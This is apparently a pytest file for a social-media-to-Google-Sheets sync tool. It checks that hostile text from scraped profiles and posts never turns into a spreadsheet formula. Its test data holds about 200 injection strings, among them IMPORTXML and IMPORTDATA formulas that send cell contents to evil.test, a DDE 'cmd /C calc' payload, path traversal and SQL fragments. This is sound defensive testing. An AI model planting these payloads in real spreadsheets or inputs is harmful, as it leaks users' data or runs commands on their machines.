"""Text from pages is text: 200 hostile strings as names, captions and handles in addresses."""

from __future__ import annotations

import json
from itertools import product
from typing import Any

from tests.destinations.google_world import Team
from tests.plan.sheet import at, post, profile

_SIGNS = ("=", "+", "-", "@", "\t=", "\n=", " =", "'=", '"=', "=-", "==", "；=", "＝")
_CALLS = (
    'IMPORTXML("https://evil.test/?"&A2;"//a")',
    'IMPORTDATA("https://evil.test")',
    'HYPERLINK("https://evil.test";"click")',
    'IMAGE("https://evil.test/x.png")',
    "cmd|' /C calc'!A0",
    "1+1",
    "A1",
    "SUM(A:A)",
    'INDIRECT("Profiles!A1")',
    "WEBSERVICE('x')",
)
_MORE = (
    *("TRUE", "FALSE", "0042", "1,5", "1.5", "2026-11-22", "22/11/2026", "1e5", "50%", "€5"),
    *("#REF!", "#N/A", "#NAME?", "{1;2}", "null", "undefined", "NaN", "Infinity", "''", '""'),
    *("a" * 60_000, "𝒳" * 30_000, "\u202egnp.exe", "\u200b=1+1", "\ufeff=1+1", "<b>x</b>"),
    *("{{7*7}}", "${7*7}", "%s%n", "\\", "\\u0000", "\x00=1", "\r\n=1+1", "a\nb", "a\tb"),
    *("]]>", "&amp;", "--", "; DROP TABLE", "../../etc/passwd", "https://evil.test/"),
    *("🧨" * 10, "مرحبا", "=" * 200, "(" * 500, "A1:B2", "$A$1", "R1C1", "Profiles!A1"),
)
HOSTILE = [*dict.fromkeys([*(s + c for s, c in product(_SIGNS, _CALLS)), *_MORE])]
HOSTILE += [f'=IMPORTXML("https://evil.test/{n}";"//a")' for n in range(200 - len(HOSTILE))]


def test_there_are_two_hundred() -> None:
    assert len(set(HOSTILE)) >= 200


def formulas(team: Team) -> list[str]:
    """Every formula that was ever sent, in cells, rules and validations."""
    found: list[str] = []

    def walk(value: Any) -> None:
        if isinstance(value, dict):
            found.extend(v for k, v in value.items() if k == "formulaValue")
            found.extend(v for k, v in value.items() if k == "userEnteredValue" and type(v) is str)
            for inner in value.values():
                walk(inner)
        elif isinstance(value, list):
            for inner in value:
                walk(inner)

    for call in team.google.calls:
        if call.method.endswith("batchUpdate"):
            walk(json.loads(call.body))
    return found


def test_no_hostile_text_ever_becomes_a_formula() -> None:
    team = Team("nl_BE")
    records = [
        profile(
            f"p{n}",
            at(20),
            followers=n,
            name=text,
            account_id=text,
            detail=text,
            posts=[post(str(n), f"p{n}", views=n, caption=text)],
        )
        for n, text in enumerate(HOSTILE)
    ]
    team.sync(*records, now=at(20, 12))
    team.sync(*records, now=at(20, 13))
    calm = Team("nl_BE")
    tame = [
        profile(f"p{n}", at(20), followers=n, posts=[post(str(n), f"p{n}", views=n)])
        for n in range(len(HOSTILE))
    ]
    calm.sync(*tame, now=at(20, 12))
    assert set(formulas(team)) <= set(formulas(calm)), "the same formulas, whatever pages say"
    held = team.people.book
    assert not held.properties.get("importFunctionsExternalUrlAccessAllowed")
    texts = {
        cell["userEnteredValue"]["stringValue"]
        for sheet in held.sheets
        for cell in sheet.cells.values()
        if "stringValue" in cell.get("userEnteredValue", {})
    }
    assert '=IMPORTXML("https://evil.test/?"&A2;"//a")' in texts
    assert max(map(len, texts)) <= 50_000
    assert team.people.bad_formulas() == []


def test_an_address_that_is_a_formula_of_the_teams_is_left_as_it_is() -> None:
    team = Team("nl_BE")
    team.sync(profile("anna", at(20), followers=1), now=at(20, 12))
    mine = '=HYPERLINK("https://tok.test/@bea";"https://tok.test/@bea")'
    team.people.write("Profiles!A3", [[mine]])
    team.sync(profile("anna", at(21), followers=2), now=at(21, 12))
    assert team.people.read("Profiles!A3", "FORMULA") == [[mine]]


def test_a_text_that_a_person_copied_from_ours_is_no_formula_when_it_is_restored() -> None:
    team = Team("nl_BE")
    evil = '=IMPORTXML("https://evil.test/?"&A2;"//a")'
    team.sync(profile("anna", at(20), followers=1, name=evil), now=at(20, 12))
    sheet = team.people.tab("Profiles").id
    rows = [{"values": [{"userEnteredValue": {"stringValue": evil}}]}]
    start = {"sheetId": sheet, "rowIndex": 1, "columnIndex": 1}
    team.people.edit({"updateCells": {"start": start, "rows": rows, "fields": "userEnteredValue"}})
    from tests.sheets_server import before  # noqa: PLC0415

    span = {"sheetId": sheet, "dimension": "COLUMNS", "startIndex": 1, "endIndex": 2}
    move = {"moveDimension": {"source": span, "destinationIndex": 8}}
    team.google.faults.add(before(lambda: team.people.edit(move)), "batchUpdate")
    team.sync(profile("anna", at(21), followers=2, name=evil), now=at(21, 12))
    cells = team.people.tab("Profiles").cells
    assert cells[1, 7]["userEnteredValue"] == {"stringValue": evil}
